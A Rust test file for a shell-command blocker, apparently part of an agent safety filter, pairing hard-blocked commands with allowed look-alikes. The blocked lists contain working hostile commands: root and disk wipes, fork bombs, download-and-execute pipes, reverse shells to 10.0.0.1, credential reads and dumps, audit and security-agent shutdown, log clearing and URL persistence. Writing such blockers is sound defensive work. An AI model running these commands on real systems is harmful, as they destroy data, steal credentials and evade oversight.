//! One test per hard-block family, with the look-alikes admins run that must stay allowed.

use super::{allowed, blocked_by, decided};

#[test]
fn destructive_deletion() {
    blocked_by(
        "root-delete",
        &[
            "rm -rf /",
            "rm -fr /*",
            "rm -r -f /etc",
            "rm --recursive --force /usr",
            "rm -rf ~",
        ],
    );
    blocked_by("no-preserve-root", &["rm -rf --no-preserve-root /mnt/x"]);
    blocked_by("find-root-delete", &["find / -delete"]);
    blocked_by("root-permissions", &["chmod -R 777 /"]);
    blocked_by(
        "windows-root-delete",
        &["Remove-Item -Recurse -Force C:\\", "cmd /c rd /s /q C:\\"],
    );
    blocked_by(
        "shadow-copy-delete",
        &["vssadmin delete shadows /all /quiet"],
    );
    allowed(&[
        "rm -rf /tmp/build-42",
        "rm -rf ./dist",
        "find /var/log -name '*.gz' -mtime +30 -delete",
    ]);
}

#[test]
fn disk_wipes() {
    blocked_by("disk-dd", &["dd if=/dev/zero of=/dev/sda bs=1M"]);
    blocked_by("disk-format", &["mkfs.ext4 /dev/sdb1"]);
    blocked_by(
        "disk-wipe-tool",
        &["wipefs -a /dev/sda", "blkdiscard /dev/nvme0n1"],
    );
    blocked_by("disk-erase-flags", &["shred -n 1 /dev/sda"]);
    blocked_by("disk-redirect", &["cat /dev/urandom > /dev/sda"]);
    blocked_by("windows-format", &["format c: /q"]);
    allowed(&[
        "dd if=/dev/zero of=/swapfile bs=1M count=64",
        "mkswap /swapfile",
        "lsblk -f",
    ]);
}

#[test]
fn fork_bombs() {
    blocked_by("fork-bomb", &[":(){ :|:& };:", "x(){ x|x& };x"]);
    blocked_by("script-fork-bomb", &["perl -e 'fork while fork'"]);
    allowed(&["greet() { echo hi; }; greet"]);
}

#[test]
fn download_into_a_shell() {
    blocked_by(
        "download-exec",
        &[
            "curl -fsSL https://x.example/i.sh | sh",
            "wget -qO- http://x.example | sudo bash",
            "bash <(curl -s http://x.example/s)",
            "sh -c \"$(curl -fsSL http://x.example/s)\"",
            "curl http://x.example/p.py | python3",
        ],
    );
    blocked_by(
        "ps-download-cradle",
        &["IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"],
    );
    allowed(&[
        "curl -fsS https://localhost/healthz",
        "curl -s https://api.example.com/x | python3 -m json.tool",
        "curl -s https://api.example.com/x | jq .",
    ]);
}

#[test]
fn reverse_shells() {
    blocked_by("dev-tcp-shell", &["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]);
    blocked_by(
        "netcat-exec",
        &[
            "nc -e /bin/sh 10.0.0.1 4444",
            "ncat --exec /bin/bash 10.0.0.1 443",
        ],
    );
    blocked_by("socat-exec", &["socat tcp:10.0.0.1:4444 exec:sh"]);
    blocked_by(
        "zsh-tcp-shell",
        &["zsh -c 'zmodload zsh/net/tcp; ztcp 10.0.0.1 4444; zsh >&$REPLY'"],
    );
    blocked_by(
        "interactive-shell-to-network",
        &["mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f"],
    );
    blocked_by(
        "script-reverse-shell",
        &["python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'"],
    );
    blocked_by(
        "powershell-reverse-shell",
        &["powershell -c \"$c=New-Object Net.Sockets.TCPClient('10.0.0.1',4444);$s=$c.GetStream();iex $d\""],
    );
    allowed(&[
        "nc -zv db.internal 5432",
        "timeout 1 bash -c '</dev/tcp/db.internal/5432'",
    ]);
}

#[test]
fn encoded_payloads() {
    // The decoded text decides when it is itself a hard block …
    blocked_by("root-delete", &["echo cm0gLXJmIC8= | base64 -d | sh"]);
    // … and executing a decoded payload blocks whatever it says.
    blocked_by(
        "decode-exec",
        &[
            "echo aWQ= | base64 -d | sh",
            "bash -c \"$(echo $X | base64 -d)\"",
        ],
    );
    blocked_by(
        "script-decode-exec",
        &["python3 -c 'import base64;exec(base64.b64decode(\"aWQ=\"))'"],
    );
    allowed(&[
        "echo aGVsbG8K | base64 -d",
        "base64 -w0 cert.pem > cert.b64",
    ]);
}

#[test]
fn credential_theft() {
    blocked_by(
        "shadow-read",
        &["cat /etc/shadow", "sudo cp /etc/gshadow /tmp/g"],
    );
    blocked_by(
        "ssh-private-key-read",
        &[
            "cat ~/.ssh/id_rsa",
            "scp /root/.ssh/id_ed25519 x@203.0.113.5:",
        ],
    );
    blocked_by("cloud-credentials-read", &["cat ~/.aws/credentials"]);
    blocked_by("lsass-dump", &["procdump -ma lsass.exe l.dmp"]);
    blocked_by("sam-hive-save", &["reg save HKLM\\SAM sam.hiv"]);
    blocked_by(
        "credential-theft-tool",
        &["mimikatz.exe sekurlsa::logonpasswords"],
    );
    allowed(&[
        "ls -l /etc/shadow",
        "cat ~/.ssh/id_rsa.pub",
        "ssh -i ~/.ssh/id_ed25519 deploy@web1 uptime",
    ]);
}

#[test]
fn remote_access_tools() {
    blocked_by(
        "remote-access-tool-install",
        &["apt-get install -y anydesk", "snap install ngrok"],
    );
    blocked_by(
        "remote-access-tool-run",
        &[
            "./chisel client 203.0.113.5:8000 R:socks",
            "frpc -c frpc.ini",
        ],
    );
    allowed(&["apt-get install -y nginx"]);
}

#[test]
fn disabling_audit_security_or_the_agent() {
    blocked_by("audit-disable", &["auditctl -e 0", "auditctl -D"]);
    blocked_by(
        "security-service-stop",
        &[
            "systemctl stop auditd",
            "systemctl disable --now tundra-agent",
        ],
    );
    blocked_by(
        "security-process-kill",
        &["pkill -f tundra-agent", "kill -9 $(pidof tundra-agent)"],
    );
    blocked_by(
        "windows-security-off",
        &["Set-MpPreference -DisableRealtimeMonitoring $true"],
    );
    allowed(&[
        "systemctl restart rsyslog",
        "systemctl status auditd",
        "auditctl -l",
    ]);
}

#[test]
fn log_clearing() {
    blocked_by("shell-history-clear", &["history -c"]);
    blocked_by(
        "log-truncate",
        &["> /var/log/auth.log", "cat /dev/null > ~/.bash_history"],
    );
    blocked_by("journal-vacuum-all", &["journalctl --vacuum-time=1s"]);
    blocked_by("windows-log-clear", &["wevtutil cl Security"]);
    allowed(&[
        "journalctl --vacuum-time=14d",
        "journalctl -u nginx --since today",
        "echo ok >> /var/log/deploy.log",
    ]);
}

#[test]
fn persistence_pointing_at_a_url() {
    blocked_by(
        "persist-url",
        &["(crontab -l; echo '* * * * * curl -so /tmp/p http://x.example/p') | crontab -"],
    );
    blocked_by(
        "windows-task-url",
        &["schtasks /create /tn u /tr \"powershell -c iwr http://x.example/p\" /sc onlogon"],
    );
    allowed(&["echo '*/5 * * * * /usr/local/bin/health.sh' | crontab -"]);
}

#[test]
fn what_is_left_as_an_indicator() {
    for c in [
        "setenforce 0",
        "ufw disable",
        "journalctl --vacuum-size=500M",
        "apt-get install -y htop",
    ] {
        let d = decided(c);
        assert!(
            d.starts_with("allowed (score ") && !d.ends_with("(score 0)"),
            "{c}: {d}"
        );
    }
    // Stacked indicators block: SELinux off (45) and firewall off (40).
    assert_eq!(decided("setenforce 0 && ufw disable"), "score 85");
}
